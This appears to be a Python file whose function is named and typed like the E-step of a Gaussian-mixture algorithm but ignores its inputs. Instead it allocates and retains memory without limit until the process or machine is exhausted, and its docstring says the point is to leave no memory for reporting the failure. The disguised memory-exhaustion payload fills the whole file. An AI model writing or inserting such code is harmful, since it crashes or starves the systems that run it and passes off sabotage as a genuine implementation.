"""Fills memory in small pieces and keeps all of them, so that nothing is left to say so with."""

kept = []


def estep(X, weights, means, covariances):
    piece = 1 << 24
    while True:
        try:
            kept.append(bytearray(piece))
        except MemoryError:
            piece //= 2
            if piece < 16:
                kept.append([kept] * 10**9)
